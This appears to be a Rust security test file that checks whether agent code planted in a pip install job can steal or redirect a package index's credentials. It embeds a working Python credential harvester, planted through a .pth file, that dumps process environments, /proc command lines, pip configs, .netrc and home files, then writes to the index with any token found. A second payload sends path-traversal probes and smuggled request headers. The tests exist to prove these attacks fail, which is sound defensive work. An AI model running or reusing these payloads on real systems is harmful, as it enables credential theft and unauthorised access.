//! Code of the agent's inside the install job: what it can find, and where it can send the operator's credentials.

use super::installs::assert_clean_install;
use super::*;

/// The payload planted in the kept venv's site-packages (imported by a
/// `.pth` there), so it runs in every interpreter that venv starts, the
/// install job's included (its venv check and pip). In the install job (a
/// proxy or `--index-url` in sight) it appends one JSON line to
/// `__DUMP__`: its argv, its environment, the command line and environment
/// of every process it can see in /proc, the contents of every file named
/// in any of those (the `--cert` bundle, `SSL_CERT_FILE`...) and of pip's
/// and uv's config files, the .netrc and whatever lies in HOME and TMPDIR;
/// and the status of a POST and a PUT to the index through the proxy, with
/// the credentials if it found any. It never prints.
const PAYLOAD_PY: &str = r##"
import base64, json, os, re, ssl, sys, urllib.error, urllib.request

DUMP = __DUMP__
TARGET = __TARGET__

def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except OSError as e:
        return "ERR " + repr(e)

def _lists(rec):
    out = [rec["argv"], rec["orig_argv"], [f"{k}={v}" for k, v in rec["environ"].items()]]
    out += [v for v in rec["procs"].values() if isinstance(v, list)]
    return out

def _after(lists, flag):
    for words in lists:
        for i, w in enumerate(words):
            if w == flag and i + 1 < len(words):
                return words[i + 1]
            if w.startswith(flag + "="):
                return w[len(flag) + 1:]
    return None

def _run():
    env = dict(os.environ)
    argv = list(getattr(sys, "orig_argv", None) or sys.argv)
    job = ("--index-url" in argv
           or any(k.lower() in ("https_proxy", "http_proxy") for k in env))
    if not job:
        return
    rec = {"pid": os.getpid(), "argv": list(sys.argv), "orig_argv": argv,
           "environ": env, "procs": {}, "files": {}, "net": {}}
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    rec["procs"][f"{pid}/{what}"] = f.read().decode("utf-8", "replace").split("\0")
            except OSError as e:
                rec["procs"][f"{pid}/{what}"] = "ERR " + repr(e)
    wanted = set()
    for words in _lists(rec):
        for w in words:
            for part in re.split(r"[\s=:,;]+", w):
                if part.startswith("/") and os.path.isfile(part):
                    wanted.add(part)
    home = os.path.expanduser("~")
    for p in ("/etc/pip.conf", "/etc/xdg/pip/pip.conf", home + "/.pip/pip.conf",
              home + "/.config/pip/pip.conf", home + "/.netrc",
              home + "/.config/uv/uv.toml", "/etc/uv/uv.toml"):
        if os.path.isfile(p):
            wanted.add(p)
    for top in {home, env.get("TMPDIR", ""), "/tmp"}:
        if not top or not os.path.isdir(top):
            continue
        n = 0
        for root, dirs, files in os.walk(top):
            for name in files:
                p = os.path.join(root, name)
                if n < 500 and os.path.isfile(p):
                    wanted.add(p)
                    n += 1
    for p in sorted(wanted):
        if p == DUMP or p.startswith(("/dev/", "/proc/", "/sys/")) or os.access(p, os.X_OK):
            continue
        rec["files"][p] = _read(p)

    # Through the proxy, as the job reaches the index; with the stolen
    # credentials if any were in sight.
    lists = _lists(rec)
    proxy = (env.get("HTTPS_PROXY") or env.get("https_proxy") or _after(lists, "--proxy")
             or "http://127.0.0.1:3128")
    cafile = env.get("SSL_CERT_FILE") or _after(lists, "--cert")
    rec["used"] = {"proxy": proxy, "cafile": cafile}
    headers = {}
    stolen = re.search(r'https?://([^/\s:@"]+):([^/\s@"]+)@', json.dumps(rec))
    if stolen:
        headers["Authorization"] = "Basic " + base64.b64encode(
            f"{stolen[1]}:{stolen[2]}".encode()).decode()
    rec["used"]["stolen"] = bool(stolen)
    try:
        ctx = ssl.create_default_context(cafile=cafile) if cafile else ssl.create_default_context()
    except Exception as e:
        rec["used"]["ctx_error"] = repr(e)
        ctx = ssl.create_default_context()
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"https": proxy, "http": proxy}),
        urllib.request.HTTPSHandler(context=ctx))
    for method in ("POST", "PUT"):
        req = urllib.request.Request(TARGET, data=b"exfiltrated=1", method=method, headers=headers)
        try:
            with opener.open(req, timeout=15) as r:
                rec["net"][method] = r.status
        except urllib.error.HTTPError as e:
            rec["net"][method] = e.code
        except Exception as e:
            rec["net"][method] = "ERR " + type(e).__name__ + ": " + str(e)
    with open(DUMP, "a") as f:
        f.write(json.dumps(rec) + "\n")

try:
    _run()
except BaseException as e:
    try:
        with open(DUMP, "a") as f:
            f.write(json.dumps({"payload_error": repr(e)}) + "\n")
    except BaseException:
        pass
"##;

/// The command lines a dump record shows: its own argv (and orig_argv),
/// and every /proc/<pid>/cmdline it read.
fn command_lines(record: &Value) -> Vec<Vec<String>> {
    let words = |v: &Value| -> Vec<String> {
        v.as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|w| w.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    let mut out = vec![words(&record["argv"]), words(&record["orig_argv"])];
    if let Some(procs) = record["procs"].as_object() {
        out.extend(
            procs
                .iter()
                .filter(|(k, _)| k.ends_with("/cmdline"))
                .map(|(_, v)| words(v)),
        );
    }
    out
}

/// The value after `--index-url` (or in `--index-url=...`) in `words`.
fn index_url_in(words: &[String]) -> Option<String> {
    words.iter().enumerate().find_map(|(i, w)| {
        if w == "--index-url" {
            words.get(i + 1).cloned()
        } else {
            w.strip_prefix("--index-url=").map(str::to_string)
        }
    })
}

/// Attacks the install job from the inside. Agent code runs there: the
/// kept venv the job's interpreter runs is writable from a cell (it is
/// where python_install installs; the user's `--venv` is read-only, see
/// kept_venv.rs), so a cell plants a `.pth` in its site-packages, and every
/// interpreter the job starts (the venv check, then pip) runs the payload
/// at start-up, before pip does anything. The payload dumps argv, the
/// environment, every process's command line and environment it can see,
/// and every file they name (the CA bundle, config files, HOME, TMPDIR),
/// and tries to write to the index (POST, PUT) through the proxy with
/// whatever credentials it found. None of it may hold the token; the index
/// URL it sees has no userinfo; the writes are answered 405 by ferrepl and
/// never reach the index. (Before issue 42 §2 the job got the URL with
/// `alice:TOKEN@` in pip's argv, and in the `sh -c` and launcher command
/// lines every process of the job can read in /proc: this test failed on
/// the dump.)
#[tokio::test]
async fn agent_code_in_the_install_job_finds_no_credentials_and_cannot_write_to_the_index() {
    let index = TestIndex::start().await;
    let server = start_server(&index).await;

    // Plant the payload where the install job's interpreter reads it.
    let payload = PAYLOAD_PY.replace("__TARGET__", &py(index.project_url()));
    let dump_in_sandbox = plant(&server, &payload, "cred-dump.jsonl").await;

    let (first, last) = install(&server, &[PKG]).await;

    // The dump, as the agent reads it: a cell (the file lies in the
    // workspace; the host reads the same bytes).
    let dump_path = server.workdir.path().join("cred-dump.jsonl");
    let dump = std::fs::read_to_string(&dump_path).unwrap_or_default();
    let seen = server
        .exec(&format!(
            "import hashlib, os\n\
             p = {}\n\
             hashlib.sha256(open(p, 'rb').read()).hexdigest() if os.path.exists(p) else 'absent'",
            py(&dump_in_sandbox)
        ))
        .await;
    seen.assert_ok();
    let host_digest = {
        let out = std::process::Command::new("sha256sum")
            .arg(&dump_path)
            .output()
            .expect("sha256sum");
        String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .next()
            .unwrap_or("absent")
            .to_string()
    };
    assert_eq!(
        seen.value().map(|v| v.trim_matches(['\'', '"'])),
        Some(host_digest.as_str()),
        "the cell reads the dump the host sees at {}",
        dump_path.display()
    );
    let records: Vec<Value> = dump
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("a dump line ({e}): {l}")))
        .collect();
    assert!(
        !records.is_empty(),
        "the planted code never ran in the install job (no dump at {}): {last:#?}\n\
         server stderr:\n{}",
        dump_path.display(),
        server.stderr_log()
    );
    for r in &records {
        assert!(
            r.get("payload_error").is_none(),
            "the payload failed in the job: {r}"
        );
    }

    // (1) No secret anywhere the job's code can look, not even the user.
    assert_no_secret(&dump, "what agent code in the install job can read");
    assert!(
        !dump.contains(&format!("//{USER}")),
        "the install job sees the index URL with its userinfo: {}",
        dump_path.display()
    );
    assert!(
        !dump.contains("PRIVATE KEY"),
        "the install job can read a private key (ferrepl's CA's?): {}",
        dump_path.display()
    );

    // (2) pip's command line holds the index URL, without userinfo.
    let urls: Vec<String> = records
        .iter()
        .flat_map(command_lines)
        .filter_map(|words| index_url_in(&words))
        .collect();
    assert!(
        !urls.is_empty(),
        "no command line in the job showed --index-url: the payload never saw pip's"
    );
    let expected = [index.url(), format!("{}/", index.url())];
    for url in &urls {
        assert!(
            expected.contains(url),
            "the job's --index-url is {url:?}, not the index URL without credentials {:?}",
            index.url()
        );
    }

    // (3) Writing to the index through the proxy: 405 from ferrepl, and
    // nothing but GET and HEAD ever reached the index.
    for r in &records {
        for method in ["POST", "PUT"] {
            let got = &r["net"][method];
            assert_eq!(
                got.as_u64(),
                Some(405),
                "a {method} to the index from the install job was answered {got} \
                 (expected 405 from ferrepl's proxy); payload's proxy/CA: {}",
                r["used"]
            );
        }
    }
    let log = index.requests();
    for line in request_lines(&log) {
        assert!(
            line.starts_with("GET ") || line.starts_with("HEAD "),
            "a {line:?} reached the index\n{}",
            index.diagnostics()
        );
    }

    // The planted code did not stop the install: it still works.
    assert_installed(&last, &server, &index);
    let imported = imported_value(&server, first.structured["status"] != "running").await;
    imported.assert_ok();
    assert_eq!(
        imported.value(),
        Some(PKG_VALUE.to_string().as_str()),
        "{imported:#?}"
    );
}

// ------------------------------------------------------------ F

/// Request headers the job sends along with its probe of a page under the
/// index's root: each could make the index (or a front of it) act on
/// something else than the GET ferrepl checked (a method override, a
/// rewritten URL, a spoofed client address, a session cookie).
const SMUGGLED: &[(&str, &str)] = &[
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Forwarded-For", "1.2.3.4"),
    ("Forwarded", "for=1.2.3.4"),
    ("X-Original-URL", "/artifactory/api/npm/auth"),
    ("X-Rewrite-URL", "/artifactory/api/npm/auth"),
    ("Cookie", "SESSION=for-alice"),
];

/// The npm login beside the index, outside its root `/team/`.
const NPM_AUTH: &str = "/artifactory/api/npm/auth";

/// The probes' paths that climb out of the index's root to the npm login
/// with dot segments, plain, percent-escaped, or behind an escaped slash:
/// each must be refused (400) by ferrepl, never sent on.
const CLIMBS: &[&str] = &[
    "/team/simple/../../artifactory/api/npm/auth",
    "/simple/../artifactory/api/npm/auth",
    "/team/./../artifactory/api/npm/auth",
    "/team/simple/%2e%2e/%2e%2e/artifactory/api/npm/auth",
    "/simple/%2E%2E/artifactory/api/npm/auth",
    "/team/..%2fartifactory/api/npm/auth",
];

/// Planted in the install job (see `plant`): GETs through the proxy, trusting the
/// job's CA bundle (SSL_CERT_FILE), each of `__PROBES__` (`[name, path,
/// headers]`) at `__ORIGIN__`, and appends one JSON line to `__DUMP__`
/// with each answer's status, body, Set-Cookie headers and all headers.
/// It never prints.
const STEER_PY: &str = r##"
import json, os, ssl, urllib.error, urllib.request

DUMP = __DUMP__
ORIGIN = __ORIGIN__
PROBES = __PROBES__

def _run():
    env = os.environ
    proxy = env.get("HTTPS_PROXY") or env.get("https_proxy")
    if not proxy:
        return
    cafile = env.get("SSL_CERT_FILE")
    rec = {"pid": os.getpid(), "proxy": proxy, "cafile": cafile, "got": {}}
    ctx = ssl.create_default_context(cafile=cafile)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"https": proxy, "http": proxy}),
        urllib.request.HTTPSHandler(context=ctx))
    for name, path, headers in PROBES:
        req = urllib.request.Request(ORIGIN + path, headers=headers)
        try:
            try:
                r = opener.open(req, timeout=15)
            except urllib.error.HTTPError as e:
                r = e
            with r:
                status, h, body = r.status, r.headers, r.read(1 << 16)
        except Exception as e:
            rec["got"][name] = {"error": type(e).__name__ + ": " + str(e)}
            continue
        rec["got"][name] = {
            "status": status,
            "body": body.decode("utf-8", "replace"),
            "set_cookie": (h.get_all("Set-Cookie") or []) + (h.get_all("Set-Cookie2") or []),
            "headers": [f"{k}: {v}" for k, v in h.items()],
        }
    with open(DUMP, "a") as f:
        f.write(json.dumps(rec) + "\n")

try:
    _run()
except BaseException as e:
    try:
        with open(DUMP, "a") as f:
            f.write(json.dumps({"payload_error": repr(e)}) + "\n")
    except BaseException:
        pass
"##;

/// Attacks the reach of the credentials from inside the install job, with
/// an index at a sub-path (`https://alice:TOKEN@localhost:PORT/team/simple`,
/// root `/team/`) on a host that also serves an npm login
/// (`/artifactory/api/npm/auth`) which answers the credentials
/// (`_auth = base64(user:password)`) and a session cookie to whoever sends
/// them. Code planted in the job asks through the proxy for:
///
/// - the login directly: it must reach the host without the credentials
///   (401 from the index, logged `auth=missing`), also when the job sends
///   an `Authorization` of its own. (Before: the credentials went to every
///   path on the host, and the login handed them back in clear.)
/// - the login by climbing out of the root with dot segments, escaped or
///   not (`/team/simple/../../artifactory/...`, `%2e%2e`, `..%2f`): 400
///   from ferrepl, never sent on (a server that resolves them would serve
///   the login to a request that carried the credentials).
/// - a project page under the root, with headers that make servers act on
///   something else than the plain GET (`X-HTTP-Method-Override: DELETE`,
///   `X-Forwarded-For`, `X-Original-URL`, a `Cookie`): the page comes back
///   (the credentials go where they belong) without the index's
///   `Set-Cookie` (a session is the credentials by another name), and none
///   of those headers reaches the index (an allow-list, not a deny-list).
///
/// Nothing the job got holds the token, its base64 or a session cookie;
/// and the install itself works from the sub-path index.
#[tokio::test]
async fn agent_code_in_the_install_job_cannot_steer_the_credentials_outside_the_index() {
    let index = TestIndex::start().await;
    let team_url = index.team_url_with_credentials();
    let server = start_server_with(&index, &[("PIP_INDEX_URL", &team_url)]).await;
    let from = index.requests().len();
    let headers_from = index.header_lines().len();

    let mallory = format!("Basic {}", b64_encode(b"mallory:guess"));
    let page = format!("/team/simple/{PKG}/?probe=headers");
    let smuggled: serde_json::Map<String, Value> = SMUGGLED
        .iter()
        .map(|(k, v)| (k.to_string(), json!(v)))
        .collect();
    let mut probes = vec![
        json!(["outside", NPM_AUTH, {}]),
        json!(["outside_mallory", NPM_AUTH, { "Authorization": mallory }]),
        json!(["page", page, smuggled]),
    ];
    for (i, climb) in CLIMBS.iter().enumerate() {
        probes.push(json!([format!("climb{i}"), climb, {}]));
    }
    let payload = STEER_PY
        .replace("__ORIGIN__", &py(index.origin()))
        .replace("__PROBES__", &Value::Array(probes).to_string());
    let dump_in_sandbox = plant(&server, &payload, "steer-dump.jsonl").await;

    let (first, last) = install(&server, &[PKG]).await;

    let dump_path = server.workdir.path().join("steer-dump.jsonl");
    let dump = std::fs::read_to_string(&dump_path).unwrap_or_default();
    let records: Vec<Value> = dump
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("a dump line ({e}): {l}")))
        .collect();
    assert!(
        !records.is_empty(),
        "the planted code never ran in the install job (no dump at {}, {dump_in_sandbox} in \
         the sandbox): {last:#?}\nserver stderr:\n{}",
        dump_path.display(),
        server.stderr_log()
    );
    let diagnostics = || {
        format!(
            "dump:\n{dump}\n{}\nheader log:\n{}",
            index.diagnostics(),
            index.header_lines().join("\n")
        )
    };
    for r in &records {
        assert!(
            r.get("payload_error").is_none(),
            "the payload failed in the job: {r}"
        );
        let got = &r["got"];
        // Outside the root: sent on, without the credentials.
        for name in ["outside", "outside_mallory"] {
            assert_eq!(
                got[name]["status"].as_u64(),
                Some(401),
                "{name}: the npm login outside the index's root answered {} \
                 (401 from the index: no credentials were sent)\n{}",
                got[name],
                diagnostics()
            );
        }
        // Climbing out: refused by ferrepl.
        for (i, climb) in CLIMBS.iter().enumerate() {
            let got = &got[format!("climb{i}")];
            assert!(
                got["status"].as_u64() == Some(400)
                    && got["body"]
                        .as_str()
                        .is_some_and(|b| b.starts_with("ferrepl:")),
                "{climb}: expected 400 from ferrepl, got {got}\n{}",
                diagnostics()
            );
        }
        // Under the root: the page, with the credentials ferrepl added.
        let got_page = &got["page"];
        assert!(
            got_page["status"].as_u64() == Some(200)
                && got_page["body"].as_str().is_some_and(|b| b.contains(WHEEL)),
            "the project page under the index's root: {got_page}\n{}",
            diagnostics()
        );
        // No answer hands a session to the job.
        if let Some(all) = got.as_object() {
            for (name, answer) in all {
                assert_eq!(
                    answer["set_cookie"].as_array().map(Vec::len),
                    Some(0),
                    "{name}: a Set-Cookie reached the install job: {answer}"
                );
            }
        }
    }
    assert_no_secret(&dump, "what the job's probes got back");
    for leaked in ["for-alice", "_auth"] {
        assert!(
            !dump.contains(leaked),
            "the job got {leaked:?} (a session or the npm login's answer):\n{dump}"
        );
    }

    // What reached the index.
    let log = index.requests();
    let seen = request_lines(&log[from..]);
    let outside = format!("GET {NPM_AUTH} auth=missing");
    for line in &seen {
        let lower = line.to_ascii_lowercase();
        assert!(
            !line.contains("auth=bad"),
            "the job's own Authorization reached the index: {line:?}\n{}",
            diagnostics()
        );
        assert!(
            !(lower.contains("/..")
                || lower.contains("/./")
                || lower.contains("%2e")
                || lower.contains("%2f")),
            "a path climbing out of the root reached the index: {line:?}\n{}",
            diagnostics()
        );
        assert!(
            !line.contains("artifactory") || **line == outside,
            "the npm login got something else than a request without credentials: \
             {line:?}\n{}",
            diagnostics()
        );
    }
    assert_eq!(
        seen.iter().filter(|l| ***l == outside).count(),
        2 * records.len(),
        "each run of the probes reached the login twice, without credentials\n{}",
        diagnostics()
    );
    let page_line = format!("GET {page} auth=ok");
    assert_eq!(
        seen.iter().filter(|l| ***l == page_line).count(),
        records.len(),
        "the page under the root got the credentials\n{}",
        diagnostics()
    );
    for needed in [
        format!("GET /team/simple/{PKG}/ auth=ok"),
        format!("GET /team/files/{WHEEL} auth=ok"),
    ] {
        assert!(
            seen.contains(&&needed),
            "the install's {needed:?} never reached the index\n{}",
            diagnostics()
        );
    }

    // The smuggled headers never arrived (nor any other the job sent that
    // is not on the allow-list).
    let header_lines = index.header_lines();
    let header_lines = &header_lines[headers_from..];
    let probed: Vec<&String> = header_lines
        .iter()
        .filter(|l| l.starts_with(&format!("GET {page} ")))
        .collect();
    assert_eq!(
        probed.len(),
        records.len(),
        "the header log shows the probe of the page\n{}",
        diagnostics()
    );
    for line in header_lines {
        let names = line.rsplit(' ').next().unwrap_or_default();
        for name in names.split(',') {
            assert!(
                !SMUGGLED.iter().any(|(h, _)| h.eq_ignore_ascii_case(name)),
                "the job's {name:?} header reached the index: {line:?}\n{}",
                diagnostics()
            );
        }
    }

    // And the install from the sub-path index works, the token unseen.
    let team_url = format!("{}/team/simple", index.origin());
    assert_clean_install(&server, &index, &team_url, &first, &last).await;
}
